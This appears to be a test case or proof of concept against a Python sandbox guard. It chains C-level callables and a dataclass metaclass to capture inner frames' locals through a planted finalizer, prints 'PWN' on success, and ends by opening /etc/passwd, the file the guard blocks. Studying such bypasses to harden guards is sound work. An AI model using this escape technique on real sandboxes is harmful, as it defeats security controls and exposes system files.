# a value planted in a library frame's locals dictionary is dropped, and its finalizer run, when a check reads that frame's f_locals: the guard reads no frame's locals (a refcount drop needs no collector)
# guard: open
import functools, itertools
from dataclasses import dataclass

seen_by_setattr, seen_by_finalizer = [], []


def locals_of_innermost(box):
    # a C chain (no event): one call appends locals() of the innermost Python frame
    return functools.partial(next, map(box.append, itertools.starmap(locals, [()])))


class Sink:
    write = locals_of_innermost(seen_by_setattr)


class Planted:
    __del__ = locals_of_innermost(seen_by_finalizer)


class Meta(type):
    # dataclasses' own setattr(cls, ...) runs this C chain under _process_class
    __setattr__ = functools.partial(print, file=Sink(), sep='', end='')

    def __getattr__(cls, name):
        if seen_by_setattr and 'planted' not in seen_by_setattr[0]:
            seen_by_setattr[0]['planted'] = True
            seen_by_setattr[0]['hash_action'] = Planted()   # unbound yet: a refresh deletes it
        raise AttributeError(name)


@dataclass
class C(metaclass=Meta):
    "a docstring: dataclass then makes none from the signature"
    x: int


for found in seen_by_finalizer:
    if 'frame' in found or 'me' in found:
        print('PWN', sorted(found))
open('/etc/passwd')
